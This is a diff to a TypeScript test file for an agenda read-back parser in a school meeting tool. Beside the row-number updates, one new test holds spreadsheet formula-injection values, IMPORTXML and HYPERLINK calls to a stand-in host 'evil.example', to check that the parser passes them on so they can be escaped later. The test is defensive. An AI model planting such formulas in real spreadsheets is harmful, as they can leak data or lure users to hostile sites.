@@ -1,5 +1,4 @@
 import type { AgendaBlock } from '../../../src/core/agenda/agenda-blocks';
-import { mergeBack } from '../../../src/core/agenda/merge-back';
 import { readAgendaBack } from '../../../src/core/agenda/read-back';
 
 const doc = (marks: string[]): AgendaBlock[] => [
@@ -36,11 +35,11 @@ describe('readAgendaBack', () => {
 
   it('treats a blank mark as absent only once the meeting is past', () => {
     expect(readAgendaBack(doc(['x', '']), { isPast: true }).attendance).toEqual([
-      { email: 'p0@school.org', present: true },
-      { email: 'p1@school.org', present: false },
+      { email: 'p0@school.org', present: true, row: 1 },
+      { email: 'p1@school.org', present: false, row: 2 },
     ]);
     expect(readAgendaBack(doc(['x', '']), { isPast: false }).attendance).toEqual([
-      { email: 'p0@school.org', present: true },
+      { email: 'p0@school.org', present: true, row: 1 },
     ]);
   });
 
@@ -48,6 +47,35 @@ describe('readAgendaBack', () => {
     const read = readAgendaBack(doc(['maybe']), { isPast: true });
     expect(read.attendance).toEqual([]);
     expect(read.unreadable[0]!.reason).toContain('"maybe" is not a mark PLG Hub can read');
+    expect(read.unreadable[0]!.at).toBe(1);
+  });
+
+  it('numbers every row as the facilitator counts them, from the first row under the header', () => {
+    const read = readAgendaBack(doc(['x', 'maybe', 'no']), { isPast: true });
+    expect(read.attendance.map((a) => a.row)).toEqual([1, 3]);
+    expect(read.unreadable.map((u) => u.at)).toEqual([2]);
+  });
+
+  it('returns whatever was typed, formulas included, for the merge to check and the writer to escape', () => {
+    const blocks: AgendaBlock[] = [
+      { kind: 'heading', level: 2, text: 'Outcomes' },
+      { kind: 'paragraph', text: '=IMPORTXML("https://evil.example","//a")' },
+      { kind: 'heading', level: 2, text: 'Attendance' },
+      {
+        kind: 'table',
+        rows: [
+          ['Name', 'Email', 'Present'],
+          ['Eve', '=x@evil.example', 'x'],
+          ['=HYPERLINK("https://evil.example")', '', 'x'],
+        ],
+      },
+    ];
+    const read = readAgendaBack(blocks, { isPast: true });
+    expect(read.outcomes).toBe('=IMPORTXML("https://evil.example","//a")');
+    expect(read.attendance).toEqual([{ email: '=x@evil.example', present: true, row: 1 }]);
+    expect(read.unreadable).toEqual([
+      { row: ['=HYPERLINK("https://evil.example")', '', 'x'], at: 2, reason: 'no email address in the row' },
+    ]);
   });
 
   it('finds the attendance table by its columns even when the heading was deleted', () => {
@@ -60,43 +88,8 @@ describe('readAgendaBack', () => {
         ],
       },
     ];
-    expect(readAgendaBack(blocks, { isPast: true }).attendance).toEqual([{ email: 'ana@school.org', present: true }]);
-  });
-});
-
-describe('mergeBack', () => {
-  const read = readAgendaBack(doc(['x', 'no', 'x']), { isPast: true });
-
-  it('fills empty Meetings cells and adds attendance not yet recorded', () => {
-    const merged = mergeBack({ meeting: {}, attendance: [] }, read);
-    expect(merged.meeting).toEqual({
-      outcomes: 'Add a worked example to the task.',
-      nextSteps: 'Bo revises the task by 20 Oct',
-    });
-    expect(merged.attendance).toEqual([
-      { email: 'p0@school.org', present: true, source: 'Agenda Doc' },
-      { email: 'p1@school.org', present: false, source: 'Agenda Doc' },
-      { email: 'p2@school.org', present: true, source: 'Agenda Doc' },
-    ]);
-    expect(merged.conflicts).toEqual([]);
-  });
-
-  it('never overwrites what someone typed in the sheet, and reports where it differs from the Doc', () => {
-    const merged = mergeBack(
-      {
-        meeting: { outcomes: 'Decided in the hallway.', nextSteps: 'Bo revises the task by 20 Oct' },
-        attendance: [
-          { email: 'p0@school.org', present: true },
-          { email: 'p1@school.org', present: true },
-        ],
-      },
-      read,
-    );
-    expect(merged.meeting).toEqual({});
-    expect(merged.attendance).toEqual([{ email: 'p2@school.org', present: true, source: 'Agenda Doc' }]);
-    expect(merged.conflicts).toEqual([
-      { field: 'outcomes', inSheet: 'Decided in the hallway.', inDoc: 'Add a worked example to the task.' },
-      { field: 'present', email: 'p1@school.org', inSheet: 'Yes', inDoc: 'No' },
+    expect(readAgendaBack(blocks, { isPast: true }).attendance).toEqual([
+      { email: 'ana@school.org', present: true, row: 1 },
     ]);
   });
 });
